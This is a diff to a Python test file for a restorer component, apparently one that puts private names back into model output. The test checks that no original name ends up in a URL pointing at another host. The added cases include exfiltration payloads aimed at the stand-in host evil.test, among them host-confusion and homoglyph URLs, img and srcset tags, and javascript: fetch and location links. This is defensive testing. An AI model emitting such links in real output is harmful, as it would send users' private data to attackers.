@@ -220,6 +220,31 @@ KEPT = [
     '<a href="/?q=NAME">x</a>',
     "[x](mailto:a@evil.test?subject=NAME)",
     f"https://evil.test/?{'a' * 9000}=NAME",
+    "[r]: <//evil.test/NAME>",
+    "https://NAME:x@evil.test/",
+    "https://acme.test:x@evil.test/NAME",
+    "https://acme.test%40evil.test/NAME",
+    r"https://acme.test\@evil.test/NAME",
+    r"[x](https://acme.test\.evil.test/NAME)",
+    "[x](&sol;&sol;evil.test&sol;acme.test/NAME)",
+    "https://аcme.test/NAME",
+    "https://acme.test。evil.test/NAME",
+    "https://[::1]/NAME",
+    "evil.test/?q=NAME",
+    'https://evil.test/"NAME',
+    "https://evil.test/|NAME",
+    '![x](https://evil.test/(a"b)NAME)',
+    "<img src=NAME>",
+    "<img\nsrc = //evil.test/NAME>",
+    "<img src='//evil.test/a\"NAME'>",
+    '<img src="https://acme.test\t.evil.test/NAME">',
+    "<img srcset='https://acme.test 1x, https&#58;&#47;&#47;evil.test/NAME 2x'>",
+    "<div style='background:url(/NAME)'>",
+    "<iframe srcdoc='<img src=/NAME>'>",
+    '<a href=\'javascript:location="//evil.test/"+"NAME"\'>',
+    "mailto:a@evil.test?subject=NAME",
+    "[x](mailto:NAME@evil.test)",
+    "javascript:fetch('//evil.test/'+'//evil.test/NAME')",
 ]
 RESTORED = [
     "https://acme.test/?q=NAME",
@@ -227,6 +252,13 @@ RESTORED = [
     "(NAME)",
     "see https://evil.test NAME",
     "[NAME](#)",
+    "**https://acme.test:8080/NAME**",
+    "![x]( <HTTPS://ACME.TEST/NAME> )",
+    '{"u":"https://evil.test/a","n":"NAME"}',
+    "|https://evil.test/a|NAME|",
+    '<a href="https://evil.test/">NAME</a>',
+    "a < b and c=1, NAME",
+    "and/or NAME",
 ]
 
 
@@ -240,10 +272,7 @@ def test_no_address_of_another_host_carries_an_original(answer, step):
     restorer = exchange.restorer()
     shown = "".join(restorer.feed(text[k : k + step]) for k in range(0, len(text), step))
     shown += restorer.close()
-    if answer in KEPT:
-        assert shown == text
-    else:
-        assert shown == answer.replace("NAME", "Quirina") + "\nend"
+    assert shown == (text if answer in KEPT else answer.replace("NAME", "Quirina") + "\nend")
 
 
 def test_what_a_tool_has_found_names_no_host():
